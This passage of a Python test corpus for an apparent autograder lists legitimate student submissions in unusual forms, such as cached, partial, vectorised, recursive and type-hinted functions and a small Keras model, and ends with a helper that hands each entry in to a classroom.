        "right answers among cells that fail, magics and a cell that does not parse",
        _with_scratch,
        9.0,
    ),
    Entry(
        "honest_decorated",
        "answers are a cached function and a partial one",
        answers(
            double="import functools\n\n@functools.lru_cache(maxsize=None)\ndef double(x):\n    return 2 * x",
            share="""
            def _share(digits, part, whole):
                return round(part / whole, digits)
            share = functools.partial(_share, 9)
            """,
        ),
        9.0,
    ),
    Entry(
        "honest_callables",
        "answers are a lambda and an object that can be called",
        answers(
            double="double = lambda x: x + x",
            share="""
            class Share:
                '''Divides; a class, because it was fun.'''
                def __init__(self):
                    self.calls = 0
                def __call__(self, part, whole):
                    self.calls += 1
                    return part / whole
            share = Share()
            """,
        ),
        9.0,
    ),
    Entry(
        "honest_ufuncs",
        "answers are functions of numpy's and vectorised ones",
        answers(
            double="import numpy as np\ndouble = np.vectorize(lambda x: 2 * x)",
            share="import numpy as np\nshare = np.true_divide",
        ),
        9.0,
    ),
    Entry(
        "honest_helpers",
        "recursion, counters and a cache that outlive each call, and helpers from an earlier answer",
        answers(
            double="""
            CALLS, KNOWN = 0, {}
            def double(x):
                global CALLS
                CALLS += 1
                if x == 0:
                    return 0
                if x not in KNOWN:
                    KNOWN[x] = double(x - 1) + 2
                return KNOWN[x]
            """,
            share="def share(part, whole):\n    assert CALLS and KNOWN\n    return double(part) / double(whole)",
        ),
        9.0,
    ),
    Entry(
        "honest_types",
        "numbers come back as numpy's, of lower precision and in lists",
        answers(
            running="def running(x):\n    return [float(np.sum(x[: k + 1])) for k in range(len(x))]",
            clamp="def clamp(x):\n    return np.float32(np.clip(x, 0, 1))",
            root="def root(x):\n    if x < 0:\n        raise ValueError\n    return np.sqrt(x, dtype=np.float32)",
        ),
        10.0,
        "ps2",
    ),
    Entry(
        "honest_documented",
        "type hints, long docstrings, an error class of one's own and a model made layer by layer",
        answers(
            running='''
            from collections.abc import Sequence
            def running(x: Sequence[float]) -> "np.ndarray":
                """Return running sums.

                >>> running([1.0])
                array([1.])
                """
                total: float = 0.0
                sums: list[float] = []
                for value in x:
                    total += value
                    sums.append(total)
                return np.array(sums)
            ''',
            settings="settings = dict(rate=1e-1)\nsettings['units'] = int(2**3)",
            root="class NoRoot(ValueError):\n    pass\n\ndef root(x: float) -> float:\n    if x < 0:\n        raise NoRoot(x)\n    return x ** 0.5",
            build="""
            def build() -> keras.Model:
                inputs = keras.Input(shape=(4,), name="four")
                hidden = keras.layers.Dense(3, keras.activations.relu)(inputs)
                return keras.Model(inputs, keras.layers.Dense(units=1, name="one")(hidden), name="mine")
            """,
        ),
        10.0,
        "ps2",
    ),
    Entry("honest_moved", "the answer was written into another cell, with helpers before it", _moved, 9.0),
]

CORPUS = {entry.name: entry for entry in [*VALUES, *MACHINERY, *FILES, *ENDINGS, *RETURNED, *SENT, *HELPERS, *HONEST]}
assert all(re.fullmatch(r"[a-z0-9_]+", name) for name in CORPUS)


def hand_in(course: Course, entry: Entry) -> None:
    """Put a submission into a course, under its own name as the student's."""
    room = Classroom(course, entry.assignment)
    room.submit(entry.name, entry.build(room))
